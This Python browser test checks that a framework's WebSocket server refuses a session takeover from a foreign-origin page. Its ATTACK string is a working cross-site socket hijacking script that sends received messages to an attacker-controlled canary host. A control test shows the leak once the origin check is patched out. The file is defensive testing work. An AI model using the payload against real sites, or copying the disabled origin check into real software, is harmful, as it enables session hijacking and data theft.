"""Another site's page, in the user's own browser, tries to take a session over by its socket.

It has all that can leak: the page's token, and the user's cookie, which the browser itself sends
to every port of the same name. What it cannot have is the app's origin. Whether it succeeded is
told by the canary that it writes to, never by the page itself.
"""

from __future__ import annotations

import pytest

from components_sdk import App, Page
from components_sdk.servers.socket import SocketHandler
from components_sdk.testing.canary import Canary
from components_sdk.testing.engines import Tab
from components_sdk.testing.running import RunningApp

from .wires import Page as OpenedPage

pytestmark = pytest.mark.browser

ATTACK = """<!doctype html><meta charset="utf-8"><title>attacker</title><script>
const tell = (what) => fetch(`/${what}`);
const text = (data) => encodeURIComponent(new TextDecoder().decode(data));
const socket = new WebSocket("%s", "components.1");
socket.binaryType = "arraybuffer";
socket.onmessage = ({ data }) => tell("stolen?" + text(data));
socket.onclose = ({ code }) => tell("closed?" + code);
tell("started");
</script>"""


def hijack(tab: Tab, canary: Canary, name: str) -> list[str]:
    """Visit an app, then an attacker's page at ``name``; answers what reached the canary."""
    app = App("Victim")

    @app.page("/")
    def home(page: Page) -> None:
        page.text("a private line")

    with RunningApp(app) as running:
        tab.goto(running.url)
        (cookie,) = (each for each in tab.cookies() if each["name"] == "components_visitor")
        opened = OpenedPage(running, f"{cookie['name']}={cookie['value']}")
        url = f"{running.origins.socket}/_components/socket?token={opened.token}&seen=0"
        canary.pages["/attack.html"] = (ATTACK % url).encode()
        tab.goto(f"http://{name}:{canary.port}/attack.html")
        canary.wait(lambda hit: "/started" in hit.detail, timeout=20)
        canary.wait(lambda hit: "/stolen" in hit.detail or "/closed" in hit.detail, timeout=20)
        return [hit.detail for hit in canary.hits if hit.kind == "http"]


@pytest.mark.parametrize("name", ["localhost", "attacker.localhost"])
def test_a_foreign_page_cannot_take_a_session_over(tab: Tab, name: str) -> None:
    with Canary() as canary:
        hits = hijack(tab, canary, name)

    assert "GET /started" in hits
    assert any(hit.startswith("GET /closed?") for hit in hits)
    assert not any("/stolen" in hit for hit in hits)


def test_without_the_check_of_its_origin_it_can(tab: Tab, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control: the same page, the same browser, and the private line goes to the attacker."""
    monkeypatch.setattr(SocketHandler, "_refusal", lambda self: None)
    monkeypatch.setattr(SocketHandler, "check_origin", lambda self, origin: True)
    with Canary() as canary:
        hits = hijack(tab, canary, "localhost")

    assert any(hit.startswith("GET /stolen?") and "a%20private%20line" in hit for hit in hits)
